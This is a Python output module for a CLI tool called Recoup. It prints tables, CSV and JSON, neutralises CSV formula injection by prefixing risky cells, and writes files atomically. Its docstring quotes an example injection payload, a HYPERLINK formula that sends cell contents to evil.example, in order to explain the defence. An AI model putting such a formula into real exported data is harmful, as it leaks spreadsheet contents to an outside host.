"""Plain, scriptable output for every CLI command that lists or shows things, files written whole or not at
all (`write_new_file`), and the one rule every CSV writer of Recoup applies to its cells (`safe_cell`,
`csv_writer`).

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula (CSV injection: `=HYPERLINK("http://evil.example/?"&A1,"click")` in an order number sends the
sheet's cells away when clicked). OWASP's rule: such a cell is written with a single quote in front,
which the spreadsheet shows as text. A plain number (`-12.00`, `+3`) cannot be a formula and is
written as it is, so amount columns never change. JSON output keeps every value exactly.
"""

from __future__ import annotations

import csv
import json
import os
import re
import sys
from collections.abc import Iterable, Sequence
from enum import StrEnum
from pathlib import Path
from typing import Any, TextIO

from rich.console import Console
from rich.table import Table

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def safe_cell(value: object) -> object:
    """The value as a CSV cell a spreadsheet shows as text: a formula-like text gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]


class SafeWriter:
    """`csv.writer` whose rows go through `safe_cell`: the writer every CSV export uses."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, lineterminator="\n", **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)


def csv_dict_rows(rows: Iterable[dict[str, object]], columns: Sequence[str]) -> Iterable[list[object]]:
    """Rows as lists in `columns` order (a missing or None value is empty), for `csv_writer`."""
    for row in rows:
        yield ["" if row.get(column) is None else row.get(column) for column in columns]


class Format(StrEnum):
    table = "table"
    csv = "csv"
    json = "json"


def emit(rows: Sequence[dict[str, object]], fmt: Format, *, columns: Sequence[str] | None = None,
         title: str | None = None) -> None:
    cols = list(columns or (rows[0].keys() if rows else []))
    if fmt is Format.json:
        sys.stdout.write(json.dumps(list(rows), ensure_ascii=False, indent=1, default=str) + "\n")
    elif fmt is Format.csv:
        writer = csv_writer(sys.stdout)
        writer.writerow(cols)
        writer.writerows(csv_dict_rows(rows, cols))
    else:
        table = Table(title=title, show_lines=False)
        for col in cols:
            table.add_column(col)
        for row in rows:
            table.add_row(*("" if row.get(c) is None else str(row.get(c)) for c in cols))
        Console().print(table)


def emit_one(obj: dict[str, object], fmt: Format) -> None:
    if fmt is Format.table:
        emit([{"field": k, "value": v} for k, v in obj.items()], fmt)
    else:
        emit([obj], fmt) if fmt is Format.csv else sys.stdout.write(
            json.dumps(obj, ensure_ascii=False, indent=1, default=str) + "\n")


def write_new_file(out: Path, parts: Iterable[bytes]) -> None:
    """Write `parts` to `out`, which must not exist yet: into a hidden partial file, linked in at the end, so
    nobody sees half a file and a file made meanwhile is never replaced (the link fails instead)."""
    partial = out.with_name(f".{out.name}.part")
    try:
        with partial.open("xb") as target:
            for part in parts:
                target.write(part)
        os.link(partial, out)
    finally:
        partial.unlink(missing_ok=True)
